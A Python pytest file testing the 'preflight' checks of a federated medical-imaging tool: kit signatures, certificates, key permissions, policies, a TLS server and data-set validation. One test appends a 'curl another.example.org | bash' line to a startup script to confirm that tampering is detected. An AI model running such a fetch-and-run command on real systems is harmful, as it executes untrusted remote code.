"""`fedmodal preflight` on real kits, real certificates, a real TLS server and real data sets."""

import io
import json
import os
import shutil
import socket
import ssl
import subprocess
import sys
import threading
from collections.abc import Callable, Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path
from shlex import quote
from typing import Any

import nibabel as nib
import numpy as np
import pytest
from cryptography import x509
from cryptography.hazmat.primitives import hashes
from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.hazmat.primitives.serialization import Encoding, load_pem_private_key
from cryptography.x509.oid import NameOID
from rich.console import Console
from typer.testing import CliRunner

from fedmodal.cli import app
from fedmodal.data.dataset import Dataset, Split
from fedmodal.data.phantom import write_phantoms
from fedmodal.data.store import Store
from fedmodal.errors import UserError
from fedmodal.flare import preflight as runner
from fedmodal.flare.kits import PACKAGES, REQUIREMENTS
from fedmodal.flare.policy import authorization
from fedmodal.flare.preflight import (
    as_json,
    delivered,
    dry_run,
    machine,
    overall,
    preflight,
    process,
    server,
    show,
    show_overall,
    versions,
)
from fedmodal.flare.preflight.data import data
from fedmodal.flare.preflight.finding import Finding, Kit, Status, open_kit
from fedmodal.tasks import ABDOMEN, Modality
from tests.kits import ADMIN, SERVER, local_project, provision

Check = Callable[[Kit], Iterator[Finding]]


@pytest.fixture
def kit(kits: Path, tmp_path: Path) -> Path:
    """A copy of site-2's kit (MRI) in a folder of another name."""
    return Path(shutil.copytree(kits / "site-2", tmp_path / "kit"))


@pytest.fixture(autouse=True)
def own_environment(monkeypatch: pytest.MonkeyPatch, cache: Path) -> None:
    monkeypatch.delenv("FEDMODAL_DATA", raising=False)
    monkeypatch.setenv("FEDMODAL_CACHE", str(cache))


def found(check: Check, kit: Path) -> dict[str, Finding]:
    return {one.check: one for one in check(open_kit(kit))}


def use_data(kit: Path, folder: Path) -> None:
    (kit / "local" / "fedmodal.json").write_text(json.dumps({"data": str(folder)}))


@pytest.mark.parametrize(("name", "message"), [("", "not a startup kit"), ("nowhere", "no such folder")])
def test_a_folder_without_a_kit_is_refused(tmp_path: Path, name: str, message: str) -> None:
    with pytest.raises(UserError, match=message):
        list(preflight(tmp_path / name))


def test_other_versions_than_the_kits(kit: Path) -> None:
    pins = kit / "packages" / "requirements.txt"
    text = pins.read_text()
    assert found(versions.packages, kit)["packages"].status is Status.PASS
    pins.write_text(text.replace("scipy==", "scipy==99."))
    assert found(versions.packages, kit)["packages"].status is Status.WARN
    pins.write_text(text.replace("monai==", "monai==99.") + "not-installed==1.0\n")
    worse, other = versions.packages(open_kit(kit))
    assert (worse.status, "monai" in worse.message) == (Status.FAIL, True)
    assert (other.status, other.message) == (Status.WARN, "not-installed is missing (kit 1.0)")
    assert "pip install" in worse.remedy


def test_a_pin_with_a_marker_or_a_build_of_its_own_is_understood(kit: Path) -> None:
    pins = kit / "packages" / "requirements.txt"
    torch = next(line for line in pins.read_text().splitlines() if line.startswith("torch=="))
    for more in ("+cu126", " ; python_version > '3'", "  # comment"):
        pins.write_text(f"{torch}{more}\n")
        assert found(versions.packages, kit)["packages"].status is Status.PASS


def test_the_pins_are_where_the_kit_has_them() -> None:
    assert versions.PINS == (PACKAGES, REQUIREMENTS)  # not imported there, as it needs nvflare


@pytest.mark.parametrize("package", ["nvflare", "torch", "monai", "psutil", "cryptography"])
def test_a_missing_package_is_a_finding_not_a_crash(kit: Path, tmp_path: Path, package: str) -> None:
    blocked = tmp_path / "blocked" / package
    blocked.mkdir(parents=True)
    (blocked / "__init__.py").write_text(f"raise ModuleNotFoundError(\"No module named '{package}'\")")
    program = (
        "import fedmodal.flare.preflight as p, sys;"
        "p.CHECKS = tuple(c for c in p.CHECKS if c not in ('dry_run.flare', 'server.server'));"
        "print(p.as_json(list(p.preflight(p.Path(sys.argv[1])))))"
    )
    path = os.pathsep.join([str(blocked.parent), *sys.path])
    command = [sys.executable, "-c", program, str(kit)]
    done = subprocess.run(  # noqa: S603
        command, env=os.environ | {"PYTHONPATH": path}, capture_output=True, text=True, check=True
    )
    findings = json.loads(done.stdout)["findings"]
    assert f"No module named '{package}'" in str([one for one in findings if one["status"] == "FAIL"])
    assert "Traceback" not in done.stdout + done.stderr


def test_a_kit_without_packages_is_a_warning(kit: Path) -> None:
    shutil.rmtree(kit / "packages")
    assert found(versions.packages, kit)["packages"].status is Status.WARN


@pytest.mark.parametrize(
    ("folder", "name"),
    [("startup", "sub_start.sh"), ("startup", "rootCA.pem"), ("packages", "requirements.txt")],
)
def test_an_altered_file_is_named(kit: Path, folder: str, name: str) -> None:
    assert {one.status for one in found(delivered.signatures, kit).values()} == {Status.PASS}
    with (kit / folder / name).open("a") as file:
        file.write("\n")
    finding = found(delivered.signatures, kit)[f"{folder} signed"]
    assert finding.status is Status.FAIL
    if name == "rootCA.pem":
        assert "rootCA.pem" in finding.message
    else:
        assert finding.message == f"altered, added or missing: {name}"


def test_a_folder_inside_a_signed_one_is_noticed(kit: Path) -> None:
    (kit / "packages" / "more").mkdir()
    finding = found(delivered.signatures, kit)["packages signed"]
    assert (finding.status, finding.message) == (Status.FAIL, "altered, added or missing: more")


def test_another_authority_in_the_kit_is_noticed(kit: Path, tmp_path: Path) -> None:
    other = provision(local_project(tmp_path), tmp_path) / "site-2" / "startup" / "rootCA.pem"
    shutil.copy(other, kit / "startup")
    for finding in found(delivered.signatures, kit).values():
        assert finding.status is Status.FAIL
        assert "rootCA.pem is not the authority that signed this folder" in finding.message


def test_a_file_added_or_taken_away_is_named(kit: Path) -> None:
    (kit / "startup" / "extra.sh").write_text("true\n")
    (kit / "startup" / "stop_fl.sh").unlink()
    assert "extra.sh, stop_fl.sh" in found(delivered.signatures, kit)["startup signed"].message


def test_a_kit_prepared_for_docker_is_a_warning_but_an_altered_script_is_not(kit: Path) -> None:
    for name in ("start.sh", "stop_fl.sh", "sub_start.sh"):
        (kit / "startup" / name).rename(kit / f"{name}.kept")
    (kit / "startup" / "start_docker.sh").write_text("docker run ...\n")
    finding = found(delivered.signatures, kit)["startup signed"]
    assert (finding.status, "start_docker.sh" in finding.message) == (Status.WARN, True)
    assert found(dry_run.flare, kit)["flare's own"].message.startswith("SKIP: no sub_start.sh")
    altered = (kit / "sub_start.sh.kept").read_text() + "curl another.example.org | bash\n"
    (kit / "startup" / "sub_start.sh").write_text(altered)
    finding = found(delivered.signatures, kit)["startup signed"]
    assert (finding.status, "sub_start.sh" in finding.message) == (Status.FAIL, True)


def test_a_kit_without_signatures_fails(kit: Path) -> None:
    (kit / "startup" / "signature.json").unlink()
    assert found(delivered.signatures, kit)["startup signed"].status is Status.FAIL


def issue(kits: Path, kit: Path, start: timedelta, end: timedelta) -> None:
    """A certificate for the kit's key, signed by the project's authority."""
    state = json.loads((kits.parent / "state" / "cert.json").read_text())
    authority_key = load_pem_private_key(state["root_pri_key"].encode(), None)
    authority = x509.load_pem_x509_certificate(state["root_cert"].encode())
    key = load_pem_private_key((kit / "startup" / "client.key").read_bytes(), None)
    now = datetime.now(UTC)
    certificate = (
        x509.CertificateBuilder()
        .subject_name(x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "site-2")]))
        .issuer_name(authority.subject)
        .public_key(key.public_key())  # type: ignore[arg-type]
        .serial_number(x509.random_serial_number())
        .not_valid_before(now + start)
        .not_valid_after(now + end)
        .sign(authority_key, hashes.SHA256())  # type: ignore[arg-type]
    )
    (kit / "startup" / "client.crt").write_bytes(certificate.public_bytes(Encoding.PEM))


@pytest.mark.parametrize(
    ("start", "end", "status", "message"),
    [
        (-1, 100, Status.PASS, "valid for 99 more days"),
        (-1, 20, Status.WARN, "ends in 19 days"),
        (-20, -1, Status.FAIL, "ended on"),
        (2, 100, Status.FAIL, "not valid before"),
    ],
)
def test_the_days_of_a_certificate(
    kits: Path, kit: Path, start: int, end: int, status: Status, message: str
) -> None:
    issue(kits, kit, timedelta(days=start), timedelta(days=end))
    finding = found(delivered.certificate, kit)["certificate"]
    assert finding.status is status
    assert message in finding.message


def test_the_authority_ends_too(kit: Path) -> None:
    start, now = kit / "startup", datetime.now(UTC)
    key = ec.generate_private_key(ec.SECP256R1())
    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "an authority of this test")])
    own = load_pem_private_key((start / "client.key").read_bytes(), None)
    for public, days, file in ((key.public_key(), -1, "rootCA.pem"), (own.public_key(), 100, "client.crt")):
        builder = x509.CertificateBuilder(name, name, public, 1, now - timedelta(9), now + timedelta(days))  # type: ignore[arg-type]
        (start / file).write_bytes(builder.sign(key, hashes.SHA256()).public_bytes(Encoding.PEM))
    findings = found(delivered.certificate, kit)
    assert (findings["certificate"].status, findings["authority"].status) == (Status.PASS, Status.FAIL)
    assert "ended on" in findings["authority"].message


def test_a_certificate_of_another_authority(kit: Path, tmp_path: Path) -> None:
    other = provision(local_project(tmp_path), tmp_path) / "site-2" / "startup"
    shutil.copy(other / "client.crt", kit / "startup")
    assert "of another authority" in found(delivered.certificate, kit)["certificate"].message


def test_a_certificate_of_another_key(kits: Path, kit: Path) -> None:
    shutil.copy(kits / "site-1" / "startup" / "client.key", kit / "startup")
    assert "does not belong to client.key" in found(delivered.certificate, kit)["certificate"].message


def test_a_key_that_others_can_read(kit: Path) -> None:
    assert found(delivered.private_key, kit)["private key"].status is Status.PASS
    (kit / "startup" / "client.key").chmod(0o644)
    finding = found(delivered.private_key, kit)["private key"]
    assert finding.status is Status.FAIL
    assert finding.remedy == f"chmod 600 {kit}/startup/client.key"


def change_policy(kit: Path, name: str, change: Callable[[dict[str, object]], None]) -> None:
    content = json.loads((kit / "local" / f"{name}.default").read_text())
    change(content)
    (kit / "local" / name).write_text(json.dumps(content))


def test_a_broader_and_a_narrower_allow_list(kit: Path) -> None:
    def broader(content: dict[str, object]) -> None:
        content["class_allow_list"] = [*content["class_allow_list"], "subprocess."]  # type: ignore[misc]

    def narrower(content: dict[str, object]) -> None:
        content["class_allow_list"] = [
            name
            for name in content["class_allow_list"]
            if "SegmentationLearner" not in name  # type: ignore[attr-defined]
        ]

    assert found(delivered.policies, kit)["allow list"].status is Status.PASS
    change_policy(kit, "resources.json", broader)
    finding = found(delivered.policies, kit)["allow list"]
    assert (finding.status, "subprocess." in finding.message) == (Status.WARN, True)
    change_policy(kit, "resources.json", narrower)
    finding = found(delivered.policies, kit)["allow list"]
    assert (finding.status, "SegmentationLearner" in finding.message) == (Status.FAIL, True)


def test_a_list_that_is_broader_and_narrower_at_once(kit: Path) -> None:
    def other(content: dict[str, object]) -> None:
        content["class_allow_list"] = [*content["class_allow_list"][:-1], "*"]  # type: ignore[index]

    change_policy(kit, "resources.json", other)
    missing, more = [one for one in delivered.policies(open_kit(kit)) if one.check == "allow list"]
    assert (missing.status, missing.message) == (Status.FAIL, "lacks torch.optim.SGD")
    assert (more.status, more.message) == (Status.WARN, "is broader than delivered: *")


def test_no_list_at_all(kit: Path) -> None:
    change_policy(kit, "resources.json", lambda content: content.pop("class_allow_list"))
    finding = found(delivered.policies, kit)["allow list"]
    assert (finding.status, "FLARE's own counts" in finding.message) == (Status.FAIL, True)


def test_a_list_that_is_not_kept_to(kit: Path) -> None:
    change_policy(kit, "resources.json", lambda content: content.update(class_list_enforcement_mode="warn"))
    finding = found(delivered.policies, kit)["allow list"]
    assert (finding.status, "'warn'" in finding.message) == (Status.WARN, True)


@pytest.mark.parametrize(
    ("rights", "status"), [("any", Status.WARN), ("none", Status.PASS), ({"view": "any"}, Status.PASS)]
)
def test_a_role_whose_rights_are_one_word_or_do_not_name_code(
    kit: Path, rights: object, status: Status
) -> None:
    content = authorization()
    content["permissions"]["member"] = rights
    (kit / "local" / "authorization.json").write_text(json.dumps(content))
    assert found(delivered.policies, kit)["authorization"].status is status


def test_a_policy_that_lets_somebody_bring_code(kit: Path) -> None:
    def open_up(content: dict[str, object]) -> None:
        content["permissions"]["lead"]["byoc"] = "any"  # type: ignore[index]

    change_policy(kit, "authorization.json", open_up)
    finding = found(delivered.policies, kit)["authorization"]
    assert (finding.status, finding.message) == (Status.WARN, "lead may run code of their own here")


@pytest.fixture
def started(kit: Path) -> Iterator[int]:
    """The number of a process that looks like the kit's own."""
    script = str(kit / "startup" / "sub_start.sh")
    with subprocess.Popen([sys.executable, "-c", "input()", script], stdin=subprocess.PIPE) as child:  # noqa: S603
        yield child.pid
        child.kill()


@pytest.mark.parametrize("file", [process.DAEMON, process.MAIN])
def test_a_process_that_runs_and_one_that_is_gone(kit: Path, started: int, file: str) -> None:
    assert found(process.running, kit)["process"].status is Status.PASS
    (kit / file).write_text(f"{started}\n")
    assert found(process.running, kit)["process"].message == "already running"
    (kit / file).write_text("999999999\n")
    assert found(process.running, kit)["process"].remedy == f"rm {kit}/{file}"


def test_a_number_that_another_program_has_now_is_stale(kit: Path) -> None:
    (kit / process.MAIN).write_text(str(os.getppid()))
    assert found(process.running, kit)["process"].message == "pid.fl of a process that is gone"


def test_a_running_kit_is_not_run_dry(kit: Path, started: int) -> None:
    (kit / process.DAEMON).write_text(str(started))
    finding = found(dry_run.flare, kit)["flare's own"]
    assert (finding.status, finding.message) == (Status.WARN, "SKIP: the kit is running")


def test_more_gpus_offered_than_there_are(kit: Path) -> None:
    def offer(content: dict[str, object]) -> None:
        for part in content["components"]:  # type: ignore[attr-defined]
            if part["id"] == "resource_manager":
                part["args"] |= {"num_of_gpus": 99, "mem_per_gpu_in_GiB": 16}

    assert found(machine.gpu, kit)["gpu"].status is Status.PASS
    change_policy(kit, "resources.json", offer)
    finding = found(machine.gpu, kit)["gpu"]
    assert finding.status is Status.FAIL
    assert "offers 99 of 16 GiB" in finding.message


def test_where_something_else_hands_out_gpus_none_are_counted(kit: Path) -> None:
    change_policy(kit, "resources.json", lambda content: content.update(components=[]))
    assert found(machine.gpu, kit) == {}


def test_a_folder_that_cannot_be_written(kit: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("FEDMODAL_CACHE", "/proc/fedmodal/cache")  # not even root can write there
    finding = found(machine.disk, kit)["cache"]
    assert finding.status is Status.FAIL
    assert finding.remedy == (
        f"as administrator: mkdir -p /proc/fedmodal/cache && chown {os.getuid()} /proc/fedmodal/cache"
    )


def test_little_memory_is_a_warning(kit: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    assert found(machine.memory, kit)["memory"].message.endswith(" GiB")
    monkeypatch.setitem(machine.MEMORY_ENOUGH, "site", 1 << 30)
    assert found(machine.memory, kit)["memory"].status is Status.WARN


def test_too_little_room(kit: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    assert found(machine.disk, kit)["kit's folder"].status is not Status.FAIL
    monkeypatch.setattr(machine, "DISK_LEAST", 1 << 40)
    finding = found(machine.disk, kit)["kit's folder"]
    assert finding.status is Status.FAIL
    assert "GiB free" in finding.message
    monkeypatch.setattr(machine, "DISK_LEAST", 0)
    monkeypatch.setattr(machine, "DISK_ENOUGH", 1 << 40)
    assert found(machine.disk, kit)["cache"].status is Status.WARN


Listen = Callable[..., None]


@pytest.fixture
def listening(kit: Path) -> Iterator[Listen]:
    """`listening(startup)`: a TLS server with that server kit's certificate, where the site expects it.

    It asks for a client's certificate of `authority`, by default its own.
    """
    ends: list[socket.socket] = []

    def listen(startup: Path, authority: Path | None = None) -> None:
        trusted = authority or startup / "rootCA.pem"
        context = ssl.create_default_context(ssl.Purpose.CLIENT_AUTH, cafile=str(trusted))
        context.verify_mode = ssl.CERT_REQUIRED
        context.load_cert_chain(startup / "server.crt", startup / "server.key")
        plain = socket.create_server(("127.0.0.1", open_kit(kit).address[1]))
        ends.append(plain)
        threading.Thread(target=serve, args=(plain, context), daemon=True).start()

    yield listen
    for end in ends:
        end.shutdown(socket.SHUT_RDWR)  # wakes the thread that waits for a client
        end.close()


def serve(plain: socket.socket, context: ssl.SSLContext) -> None:
    try:
        while True:
            client, _ = plain.accept()
            try:
                context.wrap_socket(client, server_side=True).close()
            except (ssl.SSLError, OSError):
                client.close()
    except OSError:
        return  # the test has ended


@pytest.fixture
def others(tmp_path: Path) -> Path:
    """The server's startup folder of another provisioning."""
    return provision(local_project(tmp_path), tmp_path) / SERVER / "startup"


def move_server(kit: Path, host: str) -> None:
    """Let the kit look for its server elsewhere."""
    config = kit / "startup" / "fed_client.json"
    config.write_text(config.read_text().replace('"localhost:', f'"{host}:'))


def test_a_server_that_answers(kits: Path, kit: Path, listening: Listen) -> None:
    listening(kits / SERVER / "startup")
    finding = found(server.server, kit)["server"]
    assert finding.status is Status.PASS, finding
    assert "TLSv1" in finding.message


def test_a_server_of_another_authority(kit: Path, others: Path, listening: Listen) -> None:
    listening(others)
    assert "certificate of another authority" in found(server.server, kit)["server"].message


def test_a_server_that_does_not_accept_our_certificate(
    kits: Path, kit: Path, others: Path, listening: Listen
) -> None:
    listening(kits / SERVER / "startup", others / "rootCA.pem")
    finding = found(server.server, kit)["server"]
    assert finding.status is Status.FAIL
    assert "does not accept this kit's certificate" in finding.message


def test_a_server_certificate_for_another_name(kits: Path, kit: Path, listening: Listen) -> None:
    move_server(kit, "127.0.0.1")  # FLARE's gRPC refuses this too
    listening(kits / SERVER / "startup")
    finding = found(server.server, kit)["server"]
    assert finding.status is Status.FAIL
    assert "not for the name 127.0.0.1" in finding.message


def test_a_server_that_is_not_there(kit: Path) -> None:
    finding = found(server.server, kit)["server"]
    assert (finding.status, finding.message.endswith(": refused")) == (Status.FAIL, True)


def test_a_server_that_is_filtered_and_one_that_speaks_no_tls(
    kit: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(server, "TIMEOUT", 0.2)
    host, port = open_kit(kit).address
    with socket.create_server(("127.0.0.1", port), backlog=0) as silent:
        assert "no TLS in" in found(server.server, kit)["server"].message
        silent.accept()[0].close()
        # A queue of connections that nobody accepts is full after the first: the next gets no answer.
        with socket.create_connection((host, port)):
            finding = found(server.server, kit)["server"]
    assert "something filters it" in finding.message
    assert f"let outbound TCP to localhost:{port} through" in finding.remedy


def test_a_name_that_does_not_resolve(kit: Path) -> None:
    move_server(kit, "no-such-host.invalid")
    assert "does not resolve" in found(server.server, kit)["server"].message


def test_the_servers_own_port(kits: Path, tmp_path: Path) -> None:
    kit = Path(shutil.copytree(kits / SERVER, tmp_path / "server"))
    assert found(server.server, kit)["port"].status is Status.PASS
    with socket.create_server(("", open_kit(kit).address[1])):
        assert found(server.server, kit)["port"].status is Status.FAIL


def test_flares_own_check_is_run_and_writes_nothing_into_the_kit(kit: Path) -> None:
    before = sorted(kit.rglob("*"))
    finding = found(dry_run.flare, kit)["flare's own"]
    assert finding.status is Status.FAIL  # no server
    assert "Can't connect to grpc server (localhost:" in finding.message
    assert finding.remedy == "Please check if server is up."
    assert sorted(kit.rglob("*")) == before


def test_the_dry_run_takes_no_job_and_keeps_its_hands_off_the_storage(kits: Path, tmp_path: Path) -> None:
    manager = dry_run.NoJobs()
    assert manager.check_resources({}, None)[0] is False
    for name in ("site-1", SERVER):
        kit = open_kit(kits / name)
        copy = open_kit(dry_run._copy(kit, tmp_path / name))
        assert copy.folder.name == name
        parts = {part["id"]: part for part in copy.resources["components"]}
        if name == SERVER:
            assert set(copy.storage.values()) == {tmp_path / name / "jobs", tmp_path / name / "snapshots"}
            assert set(kit.storage) == {"jobs", "snapshots"}
        else:
            assert parts["resource_manager"]["path"] == "fedmodal.flare.preflight.dry_run.NoJobs"


def test_a_problem_is_read_from_flares_table_as_a_whole() -> None:
    text = "Can't start successfully: " + "x" * 70
    rows = [
        ("Checks", "Problems", "How to fix"),
        ("Server", "PASSED", "N/A"),
        ("Dry run", text[:80], "Look."),
        ("", text[80:], ""),
    ]
    table = "\n".join(f"| {one:<8s} | {two:<80s} | {three:<10s} |" for one, two, three in rows)
    assert dry_run.first_problem(f"Checking\n{table}\noverall: fail") == (text, "Look.")
    assert dry_run.first_problem("nothing of the kind") == ("", "")


def test_no_data_says_what_to_set(kit: Path) -> None:
    finding = found(data, kit)["data"]
    assert finding.status is Status.FAIL
    assert "site 'site-2' has no data: set FEDMODAL_DATA" in finding.message
    step = found(data, kit)["training step"]
    assert (step.status, step.message.startswith("SKIP")) == (Status.WARN, True)


def test_phantoms_are_a_warning(kit: Path) -> None:
    (kit / "local" / "fedmodal.json").write_text('{"phantoms": true}')
    assert found(data, kit)["data"].status is Status.WARN


def test_good_data_train_one_real_step(kit: Path, phantom_sites: Path) -> None:
    use_data(kit, phantom_sites / "site-2")
    findings = found(data, kit)
    assert findings["data"].message == "4 synthetic MRI cases for task abdomen, no problems"
    assert findings["training step"].status is Status.PASS
    assert float(findings["training step"].message.split()[1].strip(",")) > 0
    assert " s a step, " in findings["training step"].message


@pytest.fixture(scope="module")
def named(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A data set whose files have a patient's name, in a folder with a colon in its own."""
    folder = tmp_path_factory.mktemp("named") / "set: 1"
    write_phantoms(folder, ABDOMEN, Modality.MRI, {Split.TRAIN: 2, Split.VALIDATION: 1}, seed=3)
    content = json.loads((folder / "dataset.json").read_text())
    for case in content["training"]:
        for key in ("image", "label"):
            new = case[key].replace("phantom", NAME)
            (folder / case[key]).rename(folder / new)
            case[key] = new
    (folder / "dataset.json").write_text(json.dumps(content))
    return folder


NAME = "O'Neil, Mary; 1950"


def change_set(folder: Path, change: Callable[[dict[str, Any]], object]) -> None:
    content = json.loads((folder / "dataset.json").read_text())
    change(content)
    (folder / "dataset.json").write_text(json.dumps(content))


def label_of(folder: Path, number: int) -> Path:
    content = json.loads((folder / "dataset.json").read_text())
    return folder / str(content["training"][number]["label"])


def no_nifti(folder: Path) -> None:
    label_of(folder, 0).write_bytes(b"no image")
    label_of(folder, 1).write_bytes(b"no image")


def another_grid(folder: Path) -> None:
    path = label_of(folder, 0)
    image = nib.load(path)
    nib.save(nib.Nifti1Image(np.asarray(image.dataobj)[:-1], image.affine), path)


def same_image(folder: Path) -> None:
    content = json.loads((folder / "dataset.json").read_text())
    first, second, _ = (folder / case["image"] for case in content["training"])
    shutil.copy(first, second)


def two_splits(folder: Path) -> None:
    change_set(
        folder, lambda content: content["training"][0].update(patient=content["training"][2]["patient"])
    )


def outside(folder: Path) -> None:
    change_set(folder, lambda content: content["training"][0].update(image=f"../{NAME}.nii.gz"))


def wrong_modality(folder: Path) -> None:
    change_set(folder, lambda content: content.update(modality="CT"))


@pytest.mark.parametrize(
    ("spoil", "message"),
    [
        (no_nifti, "2 x not a NIfTI file"),
        (another_grid, "voxels where its image [file] has"),
        (same_image, "1 x [file] and [file]: the same image"),
        (two_splits, "one patient in several splits (train, validation): [file], [file]"),
        (outside, "training.0: Value error, [file] must be a path inside"),
        (wrong_modality, "3 x declared CT, but its values are not in Hounsfield units"),
    ],
)
def test_what_is_wrong_with_the_data_is_said_without_a_name(
    kit: Path, tmp_path: Path, named: Path, spoil: Callable[[Path], None], message: str
) -> None:
    folder = Path(shutil.copytree(named, tmp_path / named.name))
    spoil(folder)
    use_data(kit, folder)
    findings = list(data(open_kit(kit)))
    assert findings[0].status is Status.FAIL
    assert message in "\n".join(one.message for one in findings)
    assert findings[0].remedy.startswith(f"fedmodal check {quote(str(folder))}")
    assert (findings[-1].check, findings[-1].message[:4]) == ("training step", "SKIP")
    assert not [word for word in ("Neil", "Mary", "1950") if word in as_json(findings)]


def test_a_check_that_breaks_on_a_file_does_not_name_it(
    kit: Path, tmp_path: Path, named: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    folder = Path(shutil.copytree(named, tmp_path / named.name))
    use_data(kit, folder)

    def breaks(dataset: Dataset, cache: Path) -> Store:  # noqa: ARG001
        raise PermissionError(13, "Permission denied", str(dataset.image_path(dataset.cases[0])))

    monkeypatch.setattr("fedmodal.flare.preflight.data.open_store", breaks)
    step = found(data, kit)["training step"]
    assert (step.status, "PermissionError" in step.message) == (Status.FAIL, True)
    assert "Mary" not in as_json([step])


QUICK = tuple(check for check in runner.CHECKS if check != "dry_run.flare")  # that one takes ten seconds


def test_a_check_that_breaks_is_a_line_and_the_rest_goes_on(
    kit: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(runner, "CHECKS", QUICK)
    (kit / "startup" / "client.crt").write_text("not a certificate")
    (kit / "local" / "fedmodal.json").write_text("{")
    findings = list(preflight(kit))
    broken = {one.check: one for one in findings if one.status is Status.FAIL}
    assert {"startup signed", "certificate", "data"} <= set(broken)
    assert "not readable as JSON" in broken["data"].message
    assert "could not be checked (ValueError" in broken["certificate"].message
    assert findings[-1].check == "data"
    assert json.loads(as_json(findings))["overall"] == "FAIL"


def test_a_servers_kit_is_checked_too(kits: Path, tmp_path: Path) -> None:
    kit = Path(shutil.copytree(kits / SERVER, tmp_path / "kit"))
    findings = {one.check: one for one in preflight(kit)}
    assert {"packages", "startup signed", "certificate", "private key", "snapshots", "jobs", "port"} <= set(
        findings
    )
    assert not {"data", "gpu"} & set(findings)
    assert not [one for one in findings.values() if one.status is Status.FAIL]


@pytest.mark.parametrize("check", [delivered.signatures, delivered.certificate, delivered.private_key])
def test_a_persons_kit_is_checked_too(kits: Path, check: Check) -> None:
    assert {one.status for one in found(check, kits / ADMIN).values()} == {Status.PASS}


@pytest.mark.parametrize("check", [delivered.policies, process.running, machine.gpu, data])
def test_what_does_not_apply_to_a_person_is_left_out(kits: Path, check: Check) -> None:
    assert found(check, kits / ADMIN) == {}


def test_the_command_fails_without_a_server(kit: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(runner, "CHECKS", QUICK)
    done = CliRunner().invoke(app, ["preflight", str(kit)])
    assert done.exit_code == 1
    assert "PASS startup signed" in done.stdout
    assert "FAIL server" in done.stdout
    assert "not ready:" in done.stdout
    done = CliRunner().invoke(app, ["preflight", "--json", str(kit)])
    assert done.exit_code == 1
    assert json.loads(done.stdout)["overall"] == "FAIL"


def test_the_command_succeeds_where_nothing_failed(kit: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(runner, "CHECKS", ("versions.python", "process.running"))
    (kit / process.MAIN).write_text("999999999")
    done = CliRunner().invoke(app, ["preflight", str(kit)])
    assert (done.exit_code, done.stdout.splitlines()[-1]) == (0, "ready: 1 PASS, 1 WARN, 0 FAIL")


def test_words_stay_whole_at_80_columns(kit: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(runner, "CHECKS", QUICK)
    console = Console(width=80, record=True, file=io.StringIO())
    findings = list(preflight(kit))
    for finding in findings:
        show(finding, console)
    show_overall(findings, console)
    lines = console.export_text().splitlines()
    assert max(map(len, lines)) <= 80
    short = {word for one in findings for word in f"{one.message} {one.remedy}".split() if len(word) < 50}
    assert short <= {word for line in lines for word in line.split()}


def test_the_findings_for_a_program(kit: Path) -> None:
    findings = list(found(delivered.signatures, kit).values())
    content = json.loads(as_json(findings))
    assert content["overall"] == overall(findings) == "PASS"
    assert content["findings"][0] == {
        "check": "startup signed",
        "status": "PASS",
        "message": "every file is as delivered",
        "remedy": "",
    }
